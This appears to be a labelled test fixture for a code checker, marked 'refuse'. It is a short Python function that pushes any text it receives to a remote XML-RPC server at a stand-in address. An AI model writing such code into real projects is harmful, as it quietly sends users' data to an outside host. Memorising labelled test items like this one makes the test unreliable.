# category: d27; static: refuse
from xmlrpc import client

def run(text: str) -> dict:
    return {"v": client.ServerProxy("http://192.0.2.1/").push(text)}
